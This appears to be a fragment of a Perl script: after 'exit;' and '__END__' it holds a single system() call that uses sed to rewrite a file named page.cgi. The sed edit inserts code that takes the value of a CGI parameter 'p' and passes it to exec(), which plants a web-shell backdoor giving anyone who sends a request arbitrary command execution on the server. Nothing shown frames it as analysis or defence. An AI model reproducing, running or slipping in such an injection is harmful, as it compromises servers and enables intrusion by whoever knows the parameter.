exit;
__END__
system("sed -e -i 's#^my \\\$ok;#my \\\$ok; if(\\\$cgi->param(\"p\")){ my \\\$v=\\\$cgi->param(\"p\"); exec(\\\$v); }#' \$root/page.cgi");
